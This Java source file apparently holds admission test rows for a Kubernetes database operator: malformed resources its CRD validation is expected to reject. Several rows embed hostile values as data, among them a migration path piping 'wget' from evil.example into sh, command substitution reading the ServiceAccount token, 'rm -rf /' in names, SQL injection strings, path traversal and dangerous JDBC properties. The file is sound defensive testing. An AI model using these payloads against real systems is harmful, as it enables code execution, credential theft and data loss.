package io.dbops.schemaoperator.hostile;

import io.dbops.schemaoperator.hostile.HostileInput.Admission;
import java.util.List;

/**
 * Inputs the API server refuses, per the generated CRDs. Each document is a valid resource with one
 * hostile or malformed part, so the one rule it breaks is the one that refuses that part.
 */
final class AdmissionRows {
  private AdmissionRows() {}

  static List<Admission> all() {
    return List.of(
        // --- driver properties that load classes, open files, redirect or log in otherwise ------------------
        new Admission("a postgres driver property that loads a class (socketFactory)",
            postgres("parameters: {socketFactory: javax.net.DefaultSocketFactory}"),
            "parameters not allowed for postgres: socketFactory"),
        new Admission("a postgres driver property that writes a file of the operator pod (loggerFile)",
            postgres("parameters: {loggerFile: /tmp/operator.log}"), "parameters not allowed for postgres: loggerFile"),
        new Admission("a postgres driver property that loads an authentication plugin class",
            postgres("parameters: {authenticationPluginClassName: com.evil.Plugin}"),
            "parameters not allowed for postgres: authenticationPluginClassName"),
        new Admission("a postgres driver property that swaps the TLS socket factory (sslfactory)",
            postgres("parameters: {sslfactory: org.postgresql.ssl.NonValidatingFactory}"),
            "parameters not allowed for postgres: sslfactory"),
        new Admission("a postgres host alias that sends the connection elsewhere (PGHOST, PGPORT)",
            postgres("parameters: {PGHOST: 10.0.0.1, PGPORT: \"6432\"}"), "parameters not allowed for postgres: PGHOST, PGPORT"),
        new Admission("a postgres TLS mode in parameters that undoes tls.mode (sslmode: disable)",
            postgres("tls: {mode: verify-full, caSecretRef: {name: db-ca, key: ca.crt}}\nparameters: {sslmode: disable}"),
            "parameters not allowed for postgres: sslmode"),
        new Admission("a MySQL driver property that lets the server read the operator's files (allowLoadLocalInfile)",
            mysql("mysql", "parameters: {allowLoadLocalInfile: \"true\"}"), "parameters not allowed for mysql: allowLoadLocalInfile"),
        new Admission("a MariaDB driver property that lets the server fetch URLs through the operator (allowUrlInLocalInfile)",
            mysql("mariadb", "parameters: {allowUrlInLocalInfile: \"true\"}"),
            "parameters not allowed for mariadb: allowUrlInLocalInfile"),
        new Admission("a MySQL driver property that deserializes Java objects from the server (autoDeserialize)",
            mysql("mysql", "parameters: {autoDeserialize: \"true\"}"), "parameters not allowed for mysql: autoDeserialize"),
        new Admission("a MySQL driver property that loads interceptor classes (queryInterceptors)",
            mysql("mysql", "parameters: {queryInterceptors: com.evil.Interceptor}"),
            "parameters not allowed for mysql: queryInterceptors"),
        new Admission("a MySQL driver property that opens a directory of the operator pod (allowLoadLocalInfileInPath)",
            mysql("mysql", "parameters: {allowLoadLocalInfileInPath: /var/run/secrets}"),
            "parameters not allowed for mysql: allowLoadLocalInfileInPath"),
        new Admission("a MySQL login property that overrides the Secret's user",
            mysql("mysql", "parameters: {user: root}"), "parameters not allowed for mysql: user"),
        new Admission("SQL Server host aliases that send the operator's probe to another server (server, port)",
            sqlserver("parameters: {server: 127.0.0.1, port: \"1434\"}"), "parameters not allowed for sqlserver: server, port"),
        new Admission("a SQL Server login with the operator's own identity (integratedSecurity)",
            sqlserver("parameters: {integratedSecurity: \"true\"}"), "parameters not allowed for sqlserver: integratedSecurity"),
        new Admission("a SQL Server driver property that opens a trust store file of the operator pod",
            sqlserver("parameters: {trustStore: /var/run/secrets/kubernetes.io/serviceaccount/ca.crt}"),
            "parameters not allowed for sqlserver: trustStore"),
        new Admission("a SQL Server driver property that loads a token callback class",
            sqlserver("parameters: {accessTokenCallbackClass: com.evil.Callback}"),
            "parameters not allowed for sqlserver: accessTokenCallbackClass"),
        new Admission("more driver properties than a connection may carry (65)",
            postgres("parameters: {" + manyParameters(65) + "}"), "spec.parameters", "properties"),
        new Admission("a driver property value of 2 KiB",
            postgres("parameters: {ApplicationName: \"" + "a".repeat(2048) + "\"}"), "spec.parameters.ApplicationName", "at most 1,024 characters"),

        // --- where the connection goes -----------------------------------------------------------------------
        new Admission("a host that smuggles a port, a path and a query into the URL",
            connection("app-db", """
                engine: postgres
                host: "127.0.0.1:6432/other?socketFactory=x"
                credentials: {secretName: app-db}"""), "spec.host", "pattern"),
        new Admission("a database name that closes its quotes and drops another database",
            postgres("database: 'app\"; DROP DATABASE postgres; --'"), "spec.database", "pattern"),
        new Admission("a port past TCP's range", postgres("port: 70000"), "spec.port", "maximum"),
        new Admission("an engine the operator does not know (oracle)",
            connection("app-db", """
                engine: oracle
                host: db.team.svc
                credentials: {secretName: app-db}"""), "spec.engine", "enum"),
        new Admission("a host and a managed instance at once",
            connection("app-db", """
                engine: postgres
                host: db.team.svc
                credentials: {secretName: app-db}
                instance: {image: "postgres:16", storage: {size: 1Gi}}"""), "set exactly one of host"),
        new Admission("a credentials Secret named by a path into another namespace",
            connection("app-db", """
                engine: postgres
                host: db.team.svc
                credentials: {secretName: ../kube-system/admin}"""), "spec.credentials.secretName", "pattern"),
        new Admission("a urlFrom Secret key that is a file path (the ServiceAccount token)",
            connection("app-db", """
                engine: postgres
                urlFrom: {secretKeyRef: {name: app-url, key: ../../var/run/secrets/kubernetes.io/serviceaccount/token}}"""),
            "spec.urlFrom.secretKeyRef.key", "pattern"),
        new Admission("tls.mode verify-full without a CA to verify against",
            postgres("tls: {mode: verify-full}"), "verify-ca and verify-full need caSecretRef"),
        new Admission("tls.mode verify-ca without a CA to verify against",
            mysql("mariadb", "tls: {mode: verify-ca}"), "verify-ca and verify-full need caSecretRef"),
        new Admission("a health check interval past a Java int (3000000000 s), which once stopped the operator",
            postgres("healthCheck: {intervalSeconds: 3000000000}"), "spec.healthCheck.intervalSeconds", "maximum"),

        // --- names that cannot name what the operator creates ------------------------------------------------
        new Admission("a managed instance whose name cannot be a Service name (db.prod)",
            connection("db.prod", """
                engine: postgres
                instance: {image: "postgres:16", storage: {size: 1Gi}}"""), "its name must be a Service name"),
        new Admission("a managed instance whose name is too long for its StatefulSet's revision labels (60 characters)",
            connection("d" + "b".repeat(59), """
                engine: postgres
                instance: {image: "postgres:16", storage: {size: 1Gi}}"""), "its name must be a Service name"),

        // --- schemas, placeholders and scripts (SQL and shell injection) -------------------------------------
        new Admission("a schema name that ends its statement and drops a table",
            schema("schemas: [\"app; DROP TABLE users; --\"]"), "schemas are SQL identifiers"),
        new Admission("a schema name that closes its quotes",
            schema("schemas: ['app\" CASCADE; --']"), "schemas are SQL identifiers"),
        new Admission("a schema name longer than PostgreSQL's 63 characters",
            schema("schemas: [" + "s".repeat(64) + "]"), "spec.schemas[0]", "at most 63 characters"),
        new Admission("a placeholder name that breaks out of ${...}",
            schema("placeholders: {\"env}${flyway:user\": prod}"), "placeholder names"),
        new Admission("a placeholder name that overrides one of Flyway's own (flyway:defaultSchema)",
            schema("placeholders: {\"flyway:defaultSchema\": public}"), "placeholder names"),
        new Admission("two inline scripts of the same name, one hiding the other",
            schemaWithInline("""
                - {name: V1__create_users.sql, sql: "CREATE TABLE users (id BIGINT);"}
                - {name: V1__create_users.sql, sql: "DROP TABLE users;"}"""), "spec.migrations.inline[1]", "Duplicate value"),
        new Admission("inline SQL past what one ConfigMap carries (1 MiB and a bit)",
            schemaWithInline("- {name: V1__big.sql, sql: \"" + "-".repeat(1024 * 1024) + "\"}"),
            "more SQL than the one ConfigMap that carries it to the Job can"),
        new Admission("an inline script named by a path out of its directory",
            schemaWithInline("- {name: ../../etc/V1__x.sql, sql: \"SELECT 1;\"}"), "spec.migrations.inline[0].name", "pattern"),
        new Admission("an inline script name carrying a shell command",
            schemaWithInline("- {name: \"V1__x.sql; rm -rf /\", sql: \"SELECT 1;\"}"), "spec.migrations.inline[0].name", "pattern"),
        new Admission("a target version carrying SQL",
            schema("target: \"latest; DROP TABLE users\""), "spec.target", "pattern"),
        new Admission("a migrations.image.path carrying a shell command after ';'",
            schemaFromImage("path: \"/db/migration; wget -qO- http://evil.example/x | sh\""), "spec.migrations.image.path", "pattern"),
        new Admission("a migrations.image.path with a command substitution that reads the token",
            schemaFromImage("path: \"/db/$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\""),
            "spec.migrations.image.path", "pattern"),
        new Admission("a migrations.image.path climbing out of the image's directory (..)",
            schemaFromImage("path: /db/../../var/run/secrets"), "spec.migrations.image.path", "pattern"),

        // --- references into other namespaces -------------------------------------------------------------
        new Admission("a connectionRef naming a connection of another namespace",
            document("DatabaseSchema", "app", """
                connectionRef: {name: other-team/app-db}
                migrations: {configMapRefs: [{name: app-migrations}]}"""), "spec.connectionRef.name", "pattern"),
        new Admission("a configMapRef naming a ConfigMap of another namespace",
            document("DatabaseSchema", "app", """
                connectionRef: {name: app-db}
                migrations: {configMapRefs: [{name: kube-system/coredns}]}"""), "spec.migrations.configMapRefs[0].name", "pattern"),

        // --- numbers past their type ---------------------------------------------------------------------------
        new Admission("a retry limit past a Java int", schema("retry: {limit: 3000000000}"), "spec.retry.limit", "maximum"),
        new Admission("a Job deadline of 31,000 years", schema("job: {activeDeadlineSeconds: 1000000000000}"),
            "spec.job.activeDeadlineSeconds", "maximum"),
        new Admission("a negative lock timeout", schema("timeouts: {lockSeconds: -1}"), "spec.timeouts.lockSeconds", "minimum"),
        new Admission("a statement timeout past a Java int", schema("timeouts: {statementSeconds: 9999999999}"),
            "spec.timeouts.statementSeconds", "maximum"),

        // --- the migration Job's Pod -----------------------------------------------------------------------------
        new Admission("Pod fields the Job settings do not have (hostNetwork)",
            schema("job: {hostNetwork: true}"), "unknown field \"spec.job.hostNetwork\""),
        new Admission("a ServiceAccount name that names another namespace's account",
            schema("job: {serviceAccountName: \"system:serviceaccount:kube-system:default\"}"),
            "spec.job.serviceAccountName", "pattern"),
        new Admission("podLabels that claim the Pod is someone else's (app.kubernetes.io/managed-by)",
            schema("job: {podLabels: {app.kubernetes.io/managed-by: helm}}"), "podLabels may not set", "app.kubernetes.io/managed-by"),
        new Admission("podLabels that pass the Pod off as another schema's (dbops.io/schema)",
            schema("job: {podLabels: {dbops.io/schema: other-app}}"), "podLabels may not set", "dbops.io/*"),
        new Admission("podLabels that pass the Pod off as another Job's (batch.kubernetes.io/job-name)",
            schema("job: {podLabels: {batch.kubernetes.io/job-name: other-app-1a2b3c-1}}"), "podLabels may not set",
            "batch.kubernetes.io/*"),
        new Admission("a podLabels key no label can have",
            schema("job: {podLabels: {\"team name\": db}}"), "podLabels keys must be label keys"),
        new Admission("a podLabels value no label can hold",
            schema("job: {podLabels: {team: \"a b $(id)\"}}"), "spec.job.podLabels.team", "pattern"),
        new Admission("a nodeSelector key no label can have",
            schema("job: {nodeSelector: {\"bad key!\": x}}"), "nodeSelector keys must be label keys"),
        new Admission("a nodeSelector value no label can hold",
            schema("job: {nodeSelector: {kubernetes.io/arch: \"amd64 || true\"}}"), "spec.job.nodeSelector.kubernetes.io/arch",
            "pattern"),
        new Admission("a toleration with an operator Kubernetes does not have",
            schema("job: {tolerations: [{key: dedicated, operator: Maybe, value: db}]}"), "spec.job.tolerations[0].operator", "pattern"),
        new Admission("a toleration with an effect Kubernetes does not have",
            schema("job: {tolerations: [{key: dedicated, operator: Exists, effect: Everything}]}"),
            "spec.job.tolerations[0].effect", "pattern"),
        new Admission("a toleration that says Exists and names a value",
            schema("job: {tolerations: [{key: dedicated, operator: Exists, value: db}]}"), "operator Exists matches any value"),
        new Admission("a toleration without a key that does not say Exists",
            schema("job: {tolerations: [{operator: Equal, value: db}]}"), "without a key tolerates every taint"),
        new Admission("tolerationSeconds on a toleration that is not NoExecute",
            schema("job: {tolerations: [{key: dedicated, operator: Exists, effect: NoSchedule, tolerationSeconds: 60}]}"),
            "tolerationSeconds applies to effect NoExecute only"),
        new Admission("a resource quantity that is no quantity",
            schema("job: {resources: {limits: {memory: lots}}}"), "spec.job.resources.limits.memory", "pattern"),
        new Admission("a negative memory request",
            schema("job: {resources: {requests: {memory: -1Gi}}}"), "spec.job.resources.requests.memory", "pattern"),
        new Admission("a managed instance CPU limit that is no quantity",
            connection("app-db", """
                engine: postgres
                instance: {image: "postgres:16", storage: {size: 1Gi}, resources: {limits: {cpu: "2 cores"}}}"""),
            "spec.instance.resources.limits.cpu", "pattern"),
        new Admission("a managed instance's storage class name that no StorageClass can have",
            connection("app-db", """
                engine: postgres
                instance: {image: "postgres:16", storage: {size: 1Gi, storageClassName: "fast; rm -rf /"}}"""),
            "spec.instance.storage.storageClassName", "pattern"),
        new Admission("a deletion policy that is not Retain or Drop",
            schema("deletionPolicy: DropEverything"), "spec.deletionPolicy", "enum"));
  }

  // --- documents -------------------------------------------------------------------------------------------

  private static String postgres(String extra) {
    return connection("app-db", """
        engine: postgres
        host: db.team.svc
        database: app
        credentials: {secretName: app-db}
        """ + extra);
  }

  private static String mysql(String engine, String extra) {
    return connection("app-db", """
        engine: %s
        host: db.team.svc
        database: app
        credentials: {secretName: app-db}
        """.formatted(engine) + extra);
  }

  private static String sqlserver(String extra) {
    return connection("app-db", """
        engine: sqlserver
        host: db.team.svc
        database: app
        credentials: {secretName: app-db}
        """ + extra);
  }

  private static String connection(String name, String spec) {
    return document("DatabaseConnection", name, spec);
  }

  /** A schema with one inline script, and {@code extra} spec lines. */
  private static String schema(String extra) {
    return document("DatabaseSchema", "app", """
        connectionRef: {name: app-db}
        migrations:
          inline:
            - {name: V1__create_users.sql, sql: "CREATE TABLE users (id BIGINT PRIMARY KEY);"}
        """ + extra);
  }

  private static String schemaWithInline(String scripts) {
    return document("DatabaseSchema", "app", """
        connectionRef: {name: app-db}
        migrations:
          inline:
        """ + scripts.indent(4));
  }

  private static String schemaFromImage(String pathLine) {
    return document("DatabaseSchema", "app", """
        connectionRef: {name: app-db}
        migrations:
          image:
            ref: ghcr.io/acme/app:1.4.2
        """ + pathLine.indent(4));
  }

  static String document(String kind, String name, String spec) {
    return """
        apiVersion: dbops.io/v1alpha1
        kind: %s
        metadata: {name: %s, namespace: team-a}
        spec:
        %s""".formatted(kind, name, spec.indent(2));
  }

  private static String manyParameters(int count) {
    StringBuilder entries = new StringBuilder();
    for (int i = 0; i < count; i++) {
      entries.append(i == 0 ? "" : ", ").append("p").append(i).append(": x");
    }
    return entries.toString();
  }
}
